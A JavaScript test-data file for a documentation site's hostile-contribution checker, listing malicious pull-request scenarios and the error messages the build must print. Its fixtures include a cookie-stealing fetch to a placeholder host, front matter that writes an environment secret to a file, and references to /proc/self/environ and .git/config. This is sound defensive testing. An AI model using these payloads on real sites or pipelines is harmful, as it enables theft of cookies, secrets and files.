/**
 * The hostile contributions that scripts/check-hostile.mjs applies, each to a fresh copy of the
 * project: what a pull request that touches only content (pages, front matter, OpenAPI files,
 * static files) could try, and what the project must answer. Data only; the runner does the work.
 *
 * Each scenario has:
 *   - `files`: path → text written into the copy (`{{…}}` placeholders are filled in by the runner);
 *   - `links`: path → where a symbolic link there points (absolute, or relative to the link);
 *   - `edits`: path → [text, replacement] pairs applied to a file the project has;
 *   - `runs`: the commands run in the copy, each with what it must do: `refuse` (exit non-zero
 *     and print every `expect` pattern) or `build` (exit 0); after every run, no canary may be in
 *     public/ or in what the command printed, the canary action file must not exist and the
 *     canary HTTP server must have had no request.
 *
 * Placeholders: {{OUTSIDE}} the folder outside the repository with canary.txt and dir/inner.txt,
 * {{ACTION}} a file that only a run of the contribution's code would create, {{HTTP}} the base
 * URL of a loopback server that counts requests, {{SECRET_NAME}} the environment variable that
 * holds the canary secret, {{TOKEN}} the canary token (the content of the outside files).
 */

const CHECK_OPENAPI = { name: 'npm run check:openapi', command: 'npm', args: ['run', 'check:openapi'] };
const BUILD = { name: 'npm run build', command: 'npm', args: ['run', 'build'] };
const TS_NODE = ['-r', 'ts-node/register/transpile-only'];
const TS_ENV = { TS_NODE_COMPILER_OPTIONS: JSON.stringify({ module: 'commonjs', moduleResolution: 'node', jsx: 'react-jsx' }) };
const checkContent = (...files) => ({
  name: `check-content ${files.join(' ')}`,
  command: process.execPath,
  args: [...TS_NODE, 'src/node/compile/check-content.ts', ...files],
  env: TS_ENV,
});
const compileCli = (...files) => ({
  name: `compile cli ${files.join(' ')}`,
  command: process.execPath,
  args: [...TS_NODE, 'src/node/compile/cli.ts', ...files],
  env: TS_ENV,
});
const aiDocsCli = (file) => ({ name: `ai-docs cli ${file}`, command: process.execPath, args: [...TS_NODE, 'src/node/ai-docs/cli.ts', file], env: TS_ENV });

/** A page whose front matter, if run as JavaScript, writes the action file and reads the secret. */
const codeFrontmatter = (fence) =>
  `${fence}
{
  title: (require('fs').writeFileSync('{{ACTION}}', String(process.env['{{SECRET_NAME}}'])), 'Owned'),
  description: 'JavaScript front matter'
}
---

Body text.
`;

const OPENAPI_PATH = 'content/openapi/paths/models/model.yaml';
/** Where in that file the examples are added: after the 200 response's schema. */
const OPENAPI_ANCHOR = `            $ref: ../../components/schemas/Model.yaml\n`;

/** One line per gap the compile step closes; COMPILE_EXPECT has the line each is refused at. */
const COMPILE_GAPS = `---
title: Hostile
description: Every compile-step gap
---

<a href={{}}>object link</a>

<div id="___gatsby">shell id</div>

<div style={{ position: 'fixed', inset: 0, zIndex: 9999 }}>overlay</div>

![tracking pixel](https://tracker.example/p.gif)

<div style={{ backgroundImage: 'url(https://tracker.example/bg.png)' }}>bg</div>

Text <div>a block in a paragraph</div> more text.

<img name="cookie" src="/img/logo.svg" alt="clobber" />

## Gatsby announcer

<div className="drawer-backdrop">the site's own overlay class</div>
`;
const COMPILE_FILE = 'content\\/docs\\/get-started\\/hostile-markup\\.mdx';
const COMPILE_EXPECT = [
  [6, '<a href> is an object: a URL must be text'],
  [8, '<div id="___gatsby">: the site\'s page shell uses `___gatsby`'],
  [10, '<div style> sets position: fixed'],
  [12, "image `https://tracker.example/p.gif`: the site's Content-Security-Policy only loads images from the site: put the file under static/"],
  [14, '<div style> loads `url(https://tracker.example/bg.png)`'],
  [16, "<div> inside a paragraph: the browser's HTML parser ends the paragraph"],
  [18, '`name` on <img>: a page cannot name elements'],
  [20, 'the heading "Gatsby announcer" gets the id `gatsby-announcer`'],
  [22, "`className` on <div>: a page cannot use the site's CSS classes"],
].map(([line, text]) => new RegExp(`${COMPILE_FILE}:${line}: ${text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`));

export const SCENARIOS = [
  {
    id: 'symlinks',
    what: 'symbolic links in static/ and content/ to files and folders outside the repository',
    links: {
      'static/canary.txt': '{{OUTSIDE}}/canary.txt',
      'static/img/outside-dir': '{{OUTSIDE}}/dir',
      'static/samples/relative.txt': '../../../outside/canary.txt',
      'static/environ.txt': '/proc/self/environ',
      'content/docs/get-started/deep/deeper/linked.mdx': '{{OUTSIDE}}/page.mdx',
      'content/openapi/components/schemas/Linked.yaml': '{{OUTSIDE}}/canary.txt',
      'content/shared/linked-dir': '{{OUTSIDE}}/dir',
    },
    runs: [
      {
        ...BUILD,
        refuse: true,
        expect: [
          /static\/canary\.txt: is a symbolic link \(to .*outside\/canary\.txt\)/,
          /static\/img\/outside-dir: is a symbolic link/,
          /static\/samples\/relative\.txt: is a symbolic link \(to \.\.\/\.\.\/\.\.\/outside\/canary\.txt\)/,
          /static\/environ\.txt: is a symbolic link \(to \/proc\/self\/environ\)/,
          /content\/docs\/get-started\/deep\/deeper\/linked\.mdx: is a symbolic link/,
          /content\/openapi\/components\/schemas\/Linked\.yaml: is a symbolic link/,
          /content\/shared\/linked-dir: is a symbolic link/,
        ],
      },
      // The checks that walk content never read through a link.
      { ...checkContent('content/docs/get-started'), build: true },
    ],
  },
  {
    id: 'static-is-a-link',
    what: 'static/ itself replaced by a link to a folder outside the repository',
    remove: ['static'],
    links: { static: '{{OUTSIDE}}/dir' },
    runs: [{ ...BUILD, refuse: true, expect: [/^static: is a symbolic link \(to .*outside\/dir\)/m] }],
  },
  {
    id: 'static-active',
    what: 'pages, scripts and data in static/, served as the site itself, and SVG images that run or load',
    files: {
      'static/evil.html': '<!doctype html><title>Sign in</title><script src="/samples/evil.js"></script>',
      'static/samples/evil.js': "fetch('{{HTTP}}/steal?' + document.cookie);",
      'static/docs/get-started/quick-start.htm': '<p>a page beside the real one</p>',
      'static/page-data/docs/fake/page-data.json': '{"componentChunkName":"component---src-templates-doc-tsx","result":{}}',
      'static/img/pixel.svg': '<svg xmlns="http://www.w3.org/2000/svg">\n  <image href="{{HTTP}}/pixel.png"/>\n</svg>\n',
      'static/img/script.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n',
    },
    runs: [
      {
        ...BUILD,
        refuse: true,
        expect: [
          /static\/evil\.html: a \.html file cannot be in static\//,
          /static\/samples\/evil\.js: a \.js file cannot be in static\//,
          /static\/docs\/get-started\/quick-start\.htm: a \.htm file cannot be in static\//,
          /static\/page-data\/docs\/fake\/page-data\.json: static\/page-data\/ is written by the build/,
          /static\/img\/pixel\.svg:2: the SVG holds a link or reference to another file/,
          /static\/img\/script\.svg:1: the SVG holds an event handler attribute/,
        ],
      },
    ],
  },
  {
    id: 'odd-names',
    what: 'page and file names that are not URLs, files the build would drop, and a page that takes the home page',
    files: {
      'content/docs/get-started/Evil "name" <x>.mdx': '---\ntitle: Odd\ndescription: d\n---\n\nText.\n',
      'content/docs/get-started/notes.md': '# Dropped without a word\n',
      'content/pages/index.mdx': '---\ntitle: A new home page\n---\n\nThe real one is gone.\n',
      'content/pages/openapi.mdx': '---\ntitle: Not the document\n---\n\nText.\n',
      'content/openapi/paths/models/extra.json': '{}',
      'content/extra.js': "require('fs').writeFileSync('{{ACTION}}', 'x');\n",
      'static/img/a b.png': 'x',
    },
    runs: [
      {
        ...BUILD,
        refuse: true,
        expect: [
          /content\/docs\/get-started\/Evil "name" <x>\.mdx: a page's file name is its URL/,
          /content\/docs\/get-started\/notes\.md: only \.mdx pages and _category_\.json belong in content\/docs/,
          /content\/pages\/index\.mdx: \/index is a URL the site or the build already uses/,
          /content\/pages\/openapi\.mdx: \/openapi is a URL/,
          /content\/openapi\/paths\/models\/extra\.json: content\/openapi holds YAML files/,
          /content\/extra\.js: content\/ holds only/,
          /static\/img\/a b\.png: a static file's path is its URL/,
        ],
      },
    ],
  },
  {
    id: 'frontmatter-code',
    what: 'front matter in JavaScript, CoffeeScript and JSON fences, and YAML with JavaScript tags',
    files: {
      'content/docs/get-started/fm-js.mdx': codeFrontmatter('---js'),
      'content/docs/get-started/fm-javascript.mdx': codeFrontmatter('---javascript'),
      'content/docs/get-started/fm-spaced.mdx': codeFrontmatter('--- js'),
      'content/docs/get-started/fm-upper.mdx': codeFrontmatter('---JS'),
      'content/docs/get-started/fm-coffee.mdx': codeFrontmatter('---coffee'),
      'content/docs/get-started/fm-json.mdx': '---json\n{ "title": "JSON", "description": "d" }\n---\n\nBody.\n',
      'content/docs/get-started/fm-yaml-tag.mdx':
        '---\ntitle: !!js/function \'function () { require("fs").writeFileSync("{{ACTION}}", "x") }\'\ndescription: d\n---\n\nBody.\n',
      'content/shared/fm-js.mdx': codeFrontmatter('---js'),
    },
    runs: [
      {
        ...CHECK_OPENAPI,
        refuse: true,
        expect: [
          /content\/docs\/get-started\/fm-js\.mdx:1: front matter opened with "---js" is not YAML: only YAML front matter is allowed/,
          /fm-javascript\.mdx:1: front matter opened with "---javascript"/,
          /fm-spaced\.mdx:1: front matter opened with "---js"/,
          /fm-upper\.mdx:1: front matter opened with "---JS"/,
          /fm-coffee\.mdx:1: front matter opened with "---coffee"/,
          /fm-json\.mdx:1: front matter opened with "---json"/,
          /fm-yaml-tag\.mdx:2: front matter is not valid YAML/,
        ],
      },
      {
        ...checkContent('content/docs/get-started', 'content/shared'),
        refuse: true,
        expect: [/fm-js\.mdx:1: front matter opened with "---js"/, /content\/shared\/fm-js\.mdx:1:/],
      },
      { ...compileCli('content/docs/get-started/fm-js.mdx'), build: true, expect: [/fm-js\.mdx:1: front matter opened with \\"---js\\" is not YAML/] },
      { ...aiDocsCli('content/docs/get-started/fm-coffee.mdx'), refuse: true, expect: [/fm-coffee\.mdx:1: front matter opened with "---coffee"/] },
      {
        ...BUILD,
        refuse: true,
        expect: [/fm-js\.mdx:1: front matter opened with "---js" is not YAML/, /fm-coffee\.mdx:1: front matter opened/, /content\/shared\/fm-js\.mdx:1:/],
      },
    ],
  },
  {
    id: 'openapi-refs',
    what: 'OpenAPI references to the environment, files outside the repository, the git config, URLs and other schemes',
    files: {
      '.git/config': '[remote "origin"]\n  url = https://{{SECRET_NAME}}:{{TOKEN}}@example.invalid/repo.git\n',
      'content/openapi/components/schemas/Chained.yaml':
        'type: object\ndescription: a component that reaches out\nproperties:\n  leak:\n    $ref: ../../../../../outside/canary.txt\n',
    },
    edits: {
      [OPENAPI_PATH]: [
        [
          OPENAPI_ANCHOR,
          `${OPENAPI_ANCHOR}          examples:
            environ:
              $ref: /proc/self/environ
            absolute:
              $ref: '{{OUTSIDE}}/canary.txt'
            parent:
              $ref: ../../../../../outside/canary.txt
            git:
              $ref: ../../../../.git/config
            file-url:
              $ref: 'file://{{OUTSIDE}}/canary.txt'
            http:
              $ref: '{{HTTP}}/schema.yaml'
            https:
              $ref: https://example.invalid/schema.yaml
            protocol-relative:
              $ref: '//127.0.0.1/schema.yaml'
            data:
              $ref: 'data:application/json,{"a":1}'
            encoded:
              $ref: '..%2F..%2F..%2F..%2Foutside%2Fcanary.txt'
            backslash:
              $ref: '..\\..\\..\\..\\outside\\canary.txt'
            external-value:
              externalValue: '{{HTTP}}/example.json'
            chained:
              value: {}
              summary: see the schema below
`,
        ],
        [
          '          schema:\n            $ref: ../../components/schemas/Model.yaml\n',
          '          schema:\n            allOf:\n              - $ref: ../../components/schemas/Model.yaml\n              - $ref: ../../components/schemas/Chained.yaml\n',
        ],
      ],
    },
    runs: [
      {
        ...CHECK_OPENAPI,
        refuse: true,
        expect: [
          /model\.yaml:\d+: Can't resolve \$ref: "\/proc\/self\/environ" is refused: it is an absolute path/,
          /model\.yaml:\d+: Can't resolve \$ref: ".*outside\/canary\.txt" is refused: it is an absolute path/,
          /model\.yaml:\d+: Can't resolve \$ref: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/outside\/canary\.txt" is refused: it leaves content\/openapi\//,
          /model\.yaml:\d+: Can't resolve \$ref: "\.\.\/\.\.\/\.\.\/\.\.\/\.git\/config" is refused: it leaves/,
          /model\.yaml:\d+: Can't resolve \$ref: "file:\/\/.*" is refused: it names a scheme \(file:\)/,
          /model\.yaml:\d+: Can't resolve \$ref: "http:\/\/127\.0\.0\.1:\d+\/schema\.yaml" is refused: it names a scheme \(http:\)/,
          /model\.yaml:\d+: Can't resolve \$ref: "https:\/\/example\.invalid\/schema\.yaml" is refused/,
          /model\.yaml:\d+: Can't resolve \$ref: "\/\/127\.0\.0\.1\/schema\.yaml" is refused/,
          /model\.yaml:\d+: Can't resolve \$ref: "data:application\/json,\{\\"a\\":1\}" is refused: it names a scheme \(data:\)/,
          /model\.yaml:\d+: Can't resolve \$ref: "\.\.%2F.*" is refused: write the path with "\/" only/,
          /model\.yaml:\d+: Can't resolve \$ref: "\.\.\\\\.*" is refused: write the path with "\/" only/,
          /model\.yaml:\d+: externalValue "http:\/\/127\.0\.0\.1:\d+\/example\.json" is refused/,
          /Chained\.yaml:5: Can't resolve \$ref: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/outside\/canary\.txt" is refused/,
        ],
      },
      { ...BUILD, refuse: true, expect: [/model\.yaml:\d+: Can't resolve \$ref: "\/proc\/self\/environ" is refused/, /Chained\.yaml:5: Can't resolve/] },
    ],
  },
  {
    id: 'openapi-publish',
    what: 'OpenAPI extensions whose $ref would publish the environment and an outside file in /openapi.json',
    edits: {
      [OPENAPI_PATH]: [
        [
          '  operationId: retrieveModel\n',
          '  operationId: retrieveModel\n  x-build-info:\n    $ref: /proc/self/environ\n  x-notes:\n    $ref: ../../../../../outside/canary.txt\n',
        ],
      ],
    },
    runs: [
      {
        ...BUILD,
        refuse: true,
        expect: [
          /model\.yaml:4: Can't resolve \$ref: "\/proc\/self\/environ" is refused: it is an absolute path/,
          /model\.yaml:6: Can't resolve \$ref: "\.\.\/\.\.\/\.\.\/\.\.\/\.\.\/outside\/canary\.txt" is refused: it leaves content\/openapi\//,
        ],
      },
    ],
  },
  {
    id: 'compile-gaps',
    what: 'a page that would crash rendering, take the shell\u2019s ids, cover the page, load outside images or break hydration',
    files: { 'content/docs/get-started/hostile-markup.mdx': COMPILE_GAPS },
    runs: [
      { ...checkContent('content/docs/get-started/hostile-markup.mdx'), refuse: true, expect: COMPILE_EXPECT },
      { ...BUILD, refuse: true, expect: COMPILE_EXPECT },
    ],
  },
  {
    id: 'harmless',
    what: 'a page and a static file that name the secret and the outside file as text: built, with neither published',
    files: {
      'content/docs/get-started/env-text.mdx': `---
title: Environment variables in samples
description: Samples read the API key from the environment, never from the page.
---

The sample reads \`process.env.{{SECRET_NAME}}\`, \`$\{{{SECRET_NAME}}}\` and \`%{{SECRET_NAME}}%\` as text only.

\`\`\`bash
echo "$\{{{SECRET_NAME}}}" > /dev/null && cat {{OUTSIDE}}/canary.txt > /dev/null
\`\`\`

Read more in [Error codes](/docs/get-started/error-codes).
`,
      'static/samples/notes.txt': 'process.env.{{SECRET_NAME}} and {{OUTSIDE}}/canary.txt, as text.\n',
    },
    runs: [{ ...BUILD, build: true }],
  },
];
